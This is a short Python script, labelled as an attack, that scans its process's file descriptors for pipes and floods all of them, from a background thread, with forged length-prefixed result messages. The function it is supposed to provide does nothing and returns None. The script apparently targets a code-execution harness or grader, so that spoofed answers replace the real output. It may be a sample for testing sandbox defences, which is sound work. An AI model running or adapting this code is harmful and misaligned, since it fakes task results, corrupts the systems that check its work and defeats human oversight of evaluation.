# attack: a thread answers in place of the function
import json, os, struct, sys
def pipes():
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            if "pipe" in os.readlink("/proc/self/fd/" + number): found.append(int(number))
        except OSError: pass
    return found
def write(content):
    for number in pipes():
        try: os.write(number, struct.pack(">I", len(content)) + content)
        except OSError: pass

import threading
def answers():
    while True: write(os.urandom(16) + b'["t", "value", null]')
threading.Thread(target=answers, daemon=True).start()
def double(n):
    import time; time.sleep(0.1)
    return None
